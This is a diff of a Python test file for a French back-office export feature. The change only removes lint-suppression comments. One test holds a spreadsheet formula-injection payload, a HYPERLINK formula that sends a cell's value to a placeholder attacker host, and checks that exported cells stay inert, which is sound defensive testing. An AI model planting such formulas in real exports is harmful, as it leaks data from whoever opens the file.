@@ -22,13 +22,13 @@ THRESHOLD = 5
 
 
 @pytest.fixture
-def small_threshold(app, tmp_path, monkeypatch):  # noqa: ANN001, ANN201
+def small_threshold(app, tmp_path, monkeypatch):
     monkeypatch.setitem(app.config, "EXPORT_STREAM_MAX_ROWS", THRESHOLD)
     monkeypatch.setitem(app.config, "EXPORT_DIR", str(tmp_path / "exports"))
     return tmp_path / "exports"
 
 
-def _queue(desk, n: int, demarche: str = "dmn_nom_de_marque", **product) -> list[str]:  # noqa: ANN001
+def _queue(desk, n: int, demarche: str = "dmn_nom_de_marque", **product) -> list[str]:
     references = []
     for _ in range(n):
         candidature = CandidatureFactory(
@@ -39,7 +39,7 @@ def _queue(desk, n: int, demarche: str = "dmn_nom_de_marque", **product) -> list
     return references
 
 
-def _ask(desk, fmt: str, **filters: str):  # noqa: ANN001, ANN202
+def _ask(desk, fmt: str, **filters: str):
     data = {"format": fmt, **filters, "csrf_token": csrf_token(desk.client, "/instruction/exports")}
     return desk.client.post("/instruction/exports", data=data)
 
@@ -49,13 +49,13 @@ def _csv(body: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
 
 
-def _mine(desk) -> list[Export]:  # noqa: ANN001
+def _mine(desk) -> list[Export]:
     db.expire_all()
     return db.scalars(select(Export).where(Export.requester_id == desk.me.id)
                       .order_by(Export.id)).all()
 
 
-def test_under_the_threshold_the_csv_is_streamed_as_before(desk, small_threshold) -> None:  # noqa: ANN001
+def test_under_the_threshold_the_csv_is_streamed_as_before(desk, small_threshold) -> None:
     references = _queue(desk, THRESHOLD)
     response = desk.client.get("/instruction/file.csv")
     assert response.status_code == 200 and response.mimetype == "text/csv"
@@ -63,7 +63,7 @@ def test_under_the_threshold_the_csv_is_streamed_as_before(desk, small_threshold
     assert _mine(desk) == []
 
 
-def test_a_large_queue_is_exported_by_a_job_end_to_end(desk, small_threshold) -> None:  # noqa: ANN001
+def test_a_large_queue_is_exported_by_a_job_end_to_end(desk, small_threshold) -> None:
     wanted = _queue(desk, THRESHOLD + 2)
     other = _queue(desk, 1, demarche="dmn_pecan")  # filtered out
     # the streamed CSV sends the vérificateur to the Exports page, filters kept
@@ -110,7 +110,7 @@ def test_a_large_queue_is_exported_by_a_job_end_to_end(desk, small_threshold) ->
     assert "/instruction/exports" in mail.body and "7 ligne(s)" in mail.body
 
 
-def test_a_spreadsheet_is_written_with_inert_cells(desk, small_threshold) -> None:  # noqa: ANN001
+def test_a_spreadsheet_is_written_with_inert_cells(desk, small_threshold) -> None:
     from openpyxl import load_workbook
 
     payload = '=HYPERLINK("https://evil.example/?x="&A2;"Ouvrir")'
@@ -134,7 +134,7 @@ def test_a_spreadsheet_is_written_with_inert_cells(desk, small_threshold) -> Non
     assert days and all(isinstance(d, int) for d in days)  # numbers stay numbers
 
 
-def test_only_the_requester_downloads(desk, small_threshold) -> None:  # noqa: ANN001
+def test_only_the_requester_downloads(desk, small_threshold) -> None:
     _queue(desk, 1)
     _ask(desk, "csv")
     (export,) = _mine(desk)
@@ -158,7 +158,7 @@ def test_only_the_requester_downloads(desk, small_threshold) -> None:  # noqa: A
         is None
 
 
-def test_expired_exports_are_purged(desk, small_threshold) -> None:  # noqa: ANN001
+def test_expired_exports_are_purged(desk, small_threshold) -> None:
     from jobs.exports import purger
 
     _queue(desk, 1)
@@ -179,7 +179,7 @@ def test_expired_exports_are_purged(desk, small_threshold) -> None:  # noqa: ANN
     assert purger() == 0  # safe to run again
 
 
-def test_bad_requests_get_a_french_message(desk, small_threshold) -> None:  # noqa: ANN001
+def test_bad_requests_get_a_french_message(desk, small_threshold) -> None:
     response = _ask(desk, "pdf")
     assert response.status_code == 302
     page = desk.client.get("/instruction/exports").get_data(as_text=True)
@@ -191,7 +191,7 @@ def test_bad_requests_get_a_french_message(desk, small_threshold) -> None:  # no
     assert desk.client.post("/instruction/exports", data={"format": "csv"}).status_code == 400
 
 
-def test_the_job_runs_once(desk, small_threshold) -> None:  # noqa: ANN001
+def test_the_job_runs_once(desk, small_threshold) -> None:
     from jobs.exports import produire
 
     _queue(desk, 1)
@@ -203,12 +203,12 @@ def test_the_job_runs_once(desk, small_threshold) -> None:  # noqa: ANN001
     assert export.file_key == key
 
 
-def test_a_failed_job_says_so_and_leaves_no_partial_file(app, desk, small_threshold,  # noqa: ANN001
+def test_a_failed_job_says_so_and_leaves_no_partial_file(app, desk, small_threshold,
                                                           monkeypatch) -> None:
     from backoffice.queues import export as writer
     from jobs.exports import produire
 
-    def broken(rows, out, progress):  # noqa: ANN001, ANN202
+    def broken(rows, out, progress):
         out.write(b"half a file")
         raise OSError("disque plein")
 
@@ -226,7 +226,7 @@ def test_a_failed_job_says_so_and_leaves_no_partial_file(app, desk, small_thresh
     assert desk.client.get(f"/instruction/exports/{export.id}/fichier").status_code == 410
 
 
-def test_the_queue_page_offers_both_exports(desk) -> None:  # noqa: ANN001
+def test_the_queue_page_offers_both_exports(desk) -> None:
     page = desk.client.get("/instruction/file?demarche=dmn_pecan").get_data(as_text=True)
     assert "/instruction/file.csv?demarche=dmn_pecan" in page
     assert "/instruction/exports?format=xlsx&amp;demarche=dmn_pecan" in page
@@ -234,7 +234,7 @@ def test_the_queue_page_offers_both_exports(desk) -> None:  # noqa: ANN001
 
 
 @pytest.mark.redis
-def test_the_export_job_goes_through_redis_to_the_worker(redis_app) -> None:  # noqa: ANN001, F811
+def test_the_export_job_goes_through_redis_to_the_worker(redis_app) -> None:  # noqa: F811
     """Production's path: the request queues the job (outbox, then Redis); the page says
     it waits; the worker process writes the file; the page then offers it."""
     from tests.conftest import IsolatedClient
@@ -276,7 +276,7 @@ def test_the_export_job_goes_through_redis_to_the_worker(redis_app) -> None:  # 
         db.remove()
 
 
-def test_the_exports_page_runs_the_same_queries_at_1_and_20_exports(desk) -> None:  # noqa: ANN001
+def test_the_exports_page_runs_the_same_queries_at_1_and_20_exports(desk) -> None:
     from tests.reviewer.test_queue import count_queries
 
     def add(n: int) -> None:
